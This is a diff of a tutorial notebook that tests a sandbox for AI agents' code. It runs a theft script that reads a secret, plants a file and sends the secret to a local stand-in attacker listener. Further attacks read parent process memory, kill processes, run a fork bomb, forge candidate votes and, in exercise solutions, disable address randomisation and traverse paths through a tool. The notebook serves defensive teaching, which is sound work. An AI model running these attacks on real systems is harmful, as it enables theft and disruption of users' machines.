@@ -17,25 +17,29 @@
 # %% [markdown]
 # # 06 · Break the sandbox
 #
-# **By the end you will have shown that** code written by a model can be run unattended: a dozen attacks on this
-# machine each end in a plain failure that the model can read, and the next question starts as if nothing had happened.
+# *What can a language model's code do to your computer, and what stops it?*
 #
-# *Needs* nothing but the set-up · *Makes* nothing · *Minutes* under 1 on two CPU cores, no GPU.
+# **By the end you will have shown that** an ordinary script steals a secret when it is simply run, that the same script gets nothing in the
+# sandbox, and that a dozen cleverer attacks each end in a plain failure that the model can read.
+#
+# *Needs* nothing but the set-up · *Makes* nothing · *Minutes* under 1 on two CPU cores, no GPU; about 20 to read.
 
 # %%
 import os
 import secrets
+import shutil
 import socket
 import subprocess
 import sys
 import tempfile
 import time
+import warnings
 from pathlib import Path
 
 import pandas as pd
 
 from agentlib import Sandbox
-from agentlib import config, figures, sag
+from agentlib import config, figures, pages, sag
 
 # %% tags=["parameters"]
 preset = "smoke"
@@ -43,46 +47,118 @@ overrides = {}
 
 # %%
 cfg = config.load(preset, **overrides)
-pd.Series(cfg.asdict())[["sandbox_seconds", "sandbox_memory_mb", "samples", "vote"]].to_frame("value")
+pages.show_settings(cfg, "sandbox_seconds", "sandbox_memory_mb", "samples", "vote")
 
 # %% [markdown]
-# ## 1 · Why a process, not a filter
+# ## 1 · An attack that succeeds (4 minutes)
 #
-# An agent's code is written by a model that has read the whole internet, runs thousands of times and is watched by
-# nobody. Two ways of containing it are common. One walks the syntax tree and refuses what looks dangerous: it has to
-# foresee every road, and `sympy`, `numpy` or a decorator offer new ones. The other lets the code run as it is, in a
-# process that the *kernel* has put behind a wall. This project takes the second, so the attacks below may be as clever
-# as they like: the wall does not read them.
+# An agent's code is written by a model and run thousands of times, and nobody reads it first. A model can write harmful code by accident,
+# or because a page that it found told it to. The simplest way to run this code is the way you run your own: start Python.
+#
+# To see what that allows, this page sets up something to steal, in a temporary folder of its own: a secret file, and a listener on this
+# machine that plays the attacker's server. A bystander process waits beside them; section 4 attacks it. Nothing else is touched.
+
+# %%
+folder = Path(tempfile.mkdtemp(prefix="agentlib-canaries-"))
+secret, planted = folder / "secret.txt", folder / "planted.txt"
+secret.write_text(secrets.token_hex(8))
+door = socket.create_server(("127.0.0.1", 0))
+door.setblocking(False)
+bystander = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
+reach = f"SECRET, PLANTED, PORT = {str(secret)!r}, {str(planted)!r}, {door.getsockname()[1]}\n"
+reach += f"PID, PARENT = {bystander.pid}, {os.getpid()}\n"
+
+# %% [markdown]
+# The script uses no trick. It opens a file, writes a file, and opens a connection, each with one ordinary call.
+
+# %%
+theft = """
+import socket
+
+def read():
+    global loot
+    loot = open(SECRET).read()
+    return f"the secret is {loot}"
+
+def write():
+    open(PLANTED, "w").write("I was here")
+    return "planted a file"
+
+def send():
+    with socket.create_connection(("127.0.0.1", PORT), 1) as line:
+        line.sendall(loot.encode())
+    return "sent what I found"
+
+loot = "nothing"
+for deed in (read, write, send):
+    try:
+        print(deed())
+    except OSError as error:
+        print(f"{type(error).__name__}: {error.strerror}")
+"""
+
+# %% [markdown]
+# What the script *says* is no proof. So these functions look for what it did: is the secret in its output, is there a new file, what did the
+# listener receive?
+
+# %%
+def received():
+    try:
+        visitor, _ = door.accept()
+    except BlockingIOError:
+        return ""
+    with visitor:
+        return visitor.recv(100).decode()
+
+def damage(printed):
+    done = [secret.read_text() in printed, planted.exists(), secret.read_text() in received()]
+    planted.unlink(missing_ok=True)
+    names = ["read the secret file", "write a file", "send the secret to a server"]
+    return {name: "succeeded" if one else "refused" for name, one in zip(names, done, strict=True)}
+
+# %% [markdown]
+# First without a wall, as a plain subprocess:
+
+# %%
+naive = subprocess.run([sys.executable, "-c", reach + theft], capture_output=True, text=True, timeout=60)
+without = damage(naive.stdout)
+print(naive.stdout)
+
+# %% [markdown]
+# Now the same text goes through `Sandbox`. **Predict first:** which of the three still succeed, and does the script crash at its first refusal?
+
+# %%
+box = Sandbox(tools={"web_search": lambda query: f"you asked for {query!r}"}, seconds=1.5, memory_mb=256)
+with box.session() as session:
+    outcome = session.run(reach + theft)
+table = pd.DataFrame({"without the wall": without, "with it": damage(outcome.stdout)})
+assert (table["without the wall"] == "succeeded").all() and (table["with it"] == "refused").all()
+table.assign(**{"what the code was told": outcome.stdout.splitlines()}).rename_axis(columns="attack")
+
+# %% [markdown]
+# The script ran to its end in both cases. It was not recognised as harmful, and nobody looked for the word `socket`: the kernel refused each
+# act when it was tried, and Python reported the refusal as an ordinary error.
+#
+# ## 2 · Why a process, not a filter (2 minutes)
+#
+# There are two common ways to contain code. One reads the code and rejects what looks dangerous. It must anticipate every route, and
+# `sympy`, `numpy` or a decorator offer new ones. The other runs the code as it is, in a process that the *kernel* has put behind a wall.
+# This project takes the second. The attacks below may be as clever as they like, because the wall does not read them.
 #
 # ![Behind the kernel's wall are a supervisor and a waiting state; each candidate is a fork of that state; tools stay outside.](pictures/sandbox_walls.svg)
 
 # %%
-box = Sandbox(tools={"web_search": lambda query: f"you asked for {query!r}"}, seconds=1.5, memory_mb=256)
 print("backend:", box.protection.backend)
 print("covers:", *box.protection.covers, sep="\n  ")
 print("does not cover:", *box.protection.lacks, sep="\n  ")
 
 # %% [markdown]
-# `strict=True` refuses to start with less than full containment. On a Linux that has neither a recent Landlock nor user
-# namespaces, limits on time and memory are all there is, and a warning says so once, loudly: run model-written code there
-# only in a virtual machine that you can afford to lose. On macOS and Windows the sandbox does not start at all; use a
-# Linux container, or WSL 2.
+# `strict=True` refuses to start with less than full containment. On a Linux that has neither a recent Landlock nor user namespaces, only
+# limits on time and memory are left, and a warning says so: run model-written code there only in a virtual machine that you can afford to
+# lose. On macOS and Windows the sandbox does not start; use a Linux container, or WSL 2.
 #
-# To see whether an attack got anywhere we need something to reach: canaries. A secret file, a port that notes who
-# knocks, and a bystander process.
-
-# %%
-folder = Path(tempfile.mkdtemp(prefix="agentlib-canaries-"))
-secret = folder / "secret.txt"
-secret.write_text(secrets.token_hex(8))
-door = socket.create_server(("127.0.0.1", 0))
-door.setblocking(False)
-bystander = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"])
-reach = f"SECRET, PORT, PID, PARENT = {str(secret)!r}, {door.getsockname()[1]}, {bystander.pid}, {os.getpid()}\n"
-
-# %% [markdown]
-# Each attack gets a fresh session. The table shows how it ended: the kind of failure, the last line of the message
-# (what the model would read), and the seconds it took.
+# From here on, each attack gets a fresh session. The tables show how it ended: the kind of failure, the last line of the message (what the
+# model would read), and the seconds it took. The limits are tighter than the preset's, so that the page is quick.
 
 # %%
 pd.options.display.max_colwidth = 80
@@ -99,9 +175,10 @@ def attacks(**codes):
     return pd.DataFrame({name.replace("_", " "): attack(code) for name, code in codes.items()}).T
 
 # %% [markdown]
-# ## 2 · Reading and writing
+# ## 3 · Reading and writing (2 minutes)
 #
-# The second attack is a classic: `sympify` evaluates its argument, so a filter that allows sympy allows everything.
+# Five routes to one file. The second is a classic: `sympify` evaluates its argument, so a filter that allows sympy allows everything.
+# **Predict:** does any of them get another answer than `open` does?
 
 # %%
 reading = attacks(
@@ -111,16 +188,14 @@ reading = attacks(
     read_the_parents_memory="print(open(f'/proc/{PARENT}/mem', 'rb').read(8))",
     overwrite_it="open(SECRET, 'w').write('gone')",
 )
+assert (reading["kind"] != "-").all() and len(secret.read_text()) == 16
 reading
 
-# %%
-assert (reading["kind"] != "-").all() and len(secret.read_text()) == 16
-
 # %% [markdown]
-# ## 3 · The network and other processes
+# ## 4 · The network and other processes (2 minutes)
 #
-# An agent may search, but only through the tool we gave it: the call goes back to this process as plain data, and this
-# process decides. From inside, nothing else answers.
+# An agent may search, but only through the tool we gave it: the call goes back to this process as plain data, and this process decides.
+# **Predict:** one of the four attacks below fails with a different error than the others. Which?
 
 # %%
 outward = attacks(
@@ -129,16 +204,17 @@ outward = attacks(
     kill_a_bystander="import os\nos.kill(PID, 9)",
     kill_this_notebook="import os\nos.kill(PARENT, 9)",
 )
+assert (outward["kind"] != "-").all() and bystander.poll() is None
 outward
 
-# %%
-assert (outward["kind"] != "-").all() and bystander.poll() is None
-
 # %% [markdown]
-# ## 4 · Using everything up
+# The name is "not known" because the resolver could not open a socket to ask. The model is told that the name does not exist, which is not
+# the whole truth; the kind, `forbidden`, is.
 #
-# The commonest "attack" is no attack at all: a small model writes a loop that never ends, or a power too large to
-# compute. A thread that hangs in C code cannot be stopped; a process can.
+# ## 5 · Using everything up (3 minutes)
+#
+# The commonest "attack" is none at all: a small model writes a loop that never ends, or a power too large to compute. A thread that hangs in
+# C code cannot be stopped; a process can. **Predict:** which of these five does the clock stop, and which a different limit?
 
 # %%
 greedy = attacks(
@@ -148,18 +224,16 @@ greedy = attacks(
     fork_bomb="import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
     output="while True: print('x' * 1000)",
 )
-greedy
-
-# %%
 assert set(greedy["kind"]) <= {"timeout", "memory", "killed", "execution"}
 assert greedy["seconds"].max() < 15  # a bomb of a thousand processes takes seconds to clear
+greedy
 
 # %% [markdown]
-# ## 5 · Cheating in the vote
+# ## 6 · Cheating in the vote (3 minutes)
 #
-# Self-consistent action generation runs several candidates of one step and believes what most of them say. So a
-# candidate must not be able to speak for another, or to look like one that answered. Here one candidate tries to
-# write a forged answer into every channel that it can find, while two others compute.
+# Self-consistent action generation runs several candidates of one step and keeps an action that most of them agree with. So a candidate must
+# not be able to answer for another. Here one candidate writes a forged answer into every channel that it can find, while two others
+# compute. **Predict:** for how many of the three candidates does the forger answer, and who wins?
 
 # %%
 forger = """
@@ -175,21 +249,20 @@ for number in range(1, 40):
 with box.session() as session:
     outcomes = session.run_candidates([forger, "final_answer(6 * 7)", "x = 6\nfinal_answer(x * 7)"])
     best = sag.choose(outcomes, cfg.vote)
-pd.DataFrame([{"answer": o.answer, "failure": o.failure.kind if o.failure else "-"} for o in outcomes]).assign(
-    kept=[k == best for k in range(3)]
-)
 
 # %%
 assert outcomes[best].answer == 42 and [o.answer for o in outcomes[1:]] == [42, 42]
+votes = pd.DataFrame([{"answer": o.answer, "failure": o.failure.kind if o.failure else "-"} for o in outcomes])
+votes.assign(kept=[k == best for k in range(3)]).set_axis(["forger", "second", "third"])
 
 # %% [markdown]
-# A forger can only ever spoil its own outcome, because each candidate is a fork with a channel of its own, and a
-# supervisor that runs no model code says which channel a message came by.
+# A forger can lie about its own outcome only. Each candidate is a fork with a channel of its own, and a supervisor that runs no model code
+# notes which channel a message came by.
 #
-# ## 6 · What it costs
+# ## 7 · What it costs (2 minutes)
 #
-# A fork is a snapshot that the kernel makes in milliseconds, so containment is nearly free: the time of a
-# trivial action, and of several candidates of one step.
+# A fork is a snapshot of a process, which the kernel makes without copying its memory. **Predict:** how many milliseconds does a trivial
+# action take, and how much longer do sixteen candidates take than one?
 
 # %%
 with box.session() as session:
@@ -213,39 +286,146 @@ panel.legend(fontsize=8)
 figure.alt = f"A line of milliseconds against candidates: {took[1]:.1f} for one, {took[16]:.1f} for sixteen."
 figure
 
+# %%
+pages.show_values({f"candidates: {n}": f"{ms:.1f} ms, {ms / n:.1f} each" for n, ms in took.items()})
+
 # %% [markdown]
-# ## 7 · And now?
+# For comparison, the small student of notebook 09 takes about two seconds to write one action on a CPU. These milliseconds are for actions
+# that do almost nothing: what the code computes comes on top.
 #
-# After all of this, the machine is as it was.
+# ## 8 · And now? (1 minute)
+#
+# Is the machine as it was? Someone may have knocked at the listener, the bystander may be dead, a file may be new.
 
 # %%
 with box.session() as session:
-    print(session.run("import sympy\nsympy.factor(sympy.Symbol('x')**2 - 1)").value)
-try:
-    door.accept()
-    knocked = True
-except BlockingIOError:
-    knocked = False
-{"someone knocked": knocked, "bystander lives": bystander.poll() is None, "files": [p.name for p in folder.iterdir()]}
-
-# %%
-assert not knocked and bystander.poll() is None and [p.name for p in folder.iterdir()] == ["secret.txt"]
+    factors = session.run("import sympy\nsympy.factor(sympy.Symbol('x')**2 - 1)").value
+knocked, left = received(), sorted(path.name for path in folder.iterdir())
+assert not knocked and bystander.poll() is None and left == ["secret.txt"]
+pages.show_values({
+    "the next session factors x² - 1": factors, "the listener received": knocked or "nothing",
+    "the bystander": "lives" if bystander.poll() is None else "is dead", "files in the folder": left,
+})  # fmt: skip
 
 # %% [markdown]
 # ## What we saw
 #
-# Files, network, processes, memory, time and the vote itself: each attack ended in a failure with a name, and the
-# name is what the model reads and the figures count. `tests/test_attacks.py` holds the whole list.
+# 1. Run as an ordinary process, a script without any trick read the secret, wrote a file and sent the secret away; in the sandbox the same
+#    script got three refusals.
+# 2. The wall judges acts, not words: `open`, `sympy`, `numpy` and the parent's memory all ended in "Permission denied".
+# 3. Endless loops, full memory, a fork bomb and a forged vote became failures with a name or one lost vote, and the next session worked.
 #
-# ## Exercises
+# `tests/test_attacks.py` holds a longer list of attacks. If you find one that succeeds, it is a bug: report it.
 #
-# 1. Write an attack that is not in `tests/test_attacks.py`. If it succeeds, it is a bug: report it.
-# 2. Open a box with `backend="limits"` and run section 2 again. Which attacks succeed now?
-# 3. Let a tool return a secret. Can a candidate that did not call the tool learn it?
+# ## Exercises (20 minutes)
+#
+# Each has a check under it that tells you when it is solved; unsolved ones raise no error. One way to solve them is in this notebook;
+# `make workshop` writes copies without.
+#
+# ### 1 · Escape `backend="limits"`
+#
+# This is the last resort, for machines where no outer wall can be built. On a kernel before Linux 6.12, code can then read and write your
+# files. On a newer one, each candidate still has a wall of its own. On this machine:
+
+# %%
+with warnings.catch_warnings(record=True) as said:
+    warnings.simplefilter("always")
+    limited = Sandbox(backend="limits", seconds=1.5, memory_mb=256)
+assert "NOT FULLY ISOLATED" in str(said[0].message)
+print("covers:", *limited.protection.covers, sep="\n  ")
+print("does not cover:", *limited.protection.lacks, sep="\n  ")
+
+# %% [markdown]
+# Write code that is refused in `box` and runs under `limited`. If reading the secret is refused there, too, look at *system calls*: which
+# ones does a program that computes never need? `ctypes.CDLL(None)` reaches them all.
+
+# %% tags=["exercise"]
+escape = "print(open(SECRET).read())"
+# solution
+escape = """
+import ctypes
+personality, FIXED_ADDRESSES, ASK = ctypes.CDLL(None).personality, 0x0040000, 0xFFFFFFFF
+personality(FIXED_ADDRESSES)  # switches off the random memory addresses of what is started from here
+now = personality(ASK)
+if now == -1 or not now & FIXED_ADDRESSES:
+    raise PermissionError("the call was refused")
+print("random memory addresses are off")
+"""
+
+# %%
+def run_in(sandbox, code):
+    with sandbox.session() as session:
+        return session.run(reach + code)
+
+inside_limits, inside_box = run_in(limited, escape), run_in(box, escape)
+told = [one.failure.message.splitlines()[-1] if one.failure else one.stdout.strip() for one in (inside_limits, inside_box)]
+print(f"limits: {told[0]}\nbox: {told[1]}")
+pages.check_exercise("Escape limits", lambda: inside_box.failure and not inside_limits.failure,
+                     "Compare the two lists of what is covered.")  # fmt: skip
+
+# %% [markdown]
+# ### 2 · See through the wall
+#
+# `TARGET` is the path of a file that the code may not open. Write code that prints how many bytes it holds, in the full sandbox. Why does
+# the wall let that through, and for whom would it matter?
+
+# %% tags=["exercise"]
+spy = "print(len(open(TARGET).read()))"
+# solution
+spy = "import os\nprint(os.stat(TARGET).st_size)"
+
+# %%
+def guess(size):
+    target = folder / "target.txt"
+    target.write_text("x" * size)
+    printed = run_in(box, f"TARGET = {str(target)!r}\n{spy}").stdout
+    target.unlink()
+    return printed.strip()
+
+sizes = [secrets.randbelow(10_000) for _ in range(3)]
+pages.check_exercise("See through the wall", lambda: [guess(size) for size in sizes] == [str(size) for size in sizes],
+                     "Read the list of what is not covered.")  # fmt: skip
+
+# %% [markdown]
+# ### 3 · A door in the wall
+#
+# A tool runs *outside*, with your rights. This one reads notes from a folder. First write `leak`, code that prints the secret from inside the
+# sandbox by calling `read_note`. Then write `safe_note`, which returns every note and nothing else.
+
+# %% tags=["exercise"]
+notes = folder / "notes"
+notes.mkdir(exist_ok=True)
+(notes / "today.txt").write_text("buy milk")
+def read_note(name):
+    return (notes / name).read_text()
+leak = "print(read_note('today.txt'))"
+safe_note = read_note
+# solution
+leak = "print(read_note('../secret.txt'))"
+def safe_note(name):
+    path = (notes / name).resolve()
+    if path.parent != notes.resolve():
+        raise PermissionError(f"{name!r} is not a note")
+    return path.read_text()
+
+# %%
+def printed(tool, *codes):
+    with Sandbox(tools={"read_note": tool}, seconds=1.5) as one:
+        return "".join(run_in(one, code).stdout for code in codes)
+
+def is_safe(tool):
+    alias = notes / "alias.txt"
+    alias.is_symlink() or alias.symlink_to(secret)
+    calls = [leak, "print(read_note('alias.txt'))", "print(read_note(SECRET))", "print(read_note('today.txt'))"]
+    return printed(tool, *calls).strip() == "buy milk"
+
+pages.check_exercise("A door in the wall", lambda: secret.read_text() in printed(read_note, leak) and is_safe(safe_note),
+                     "Where does a name lead, once all its parts are followed?")  # fmt: skip
 
 # %%
 box.close()
+limited.close()
 bystander.kill()
 bystander.wait()
-secret.unlink()
-folder.rmdir()
+door.close()
+shutil.rmtree(folder)
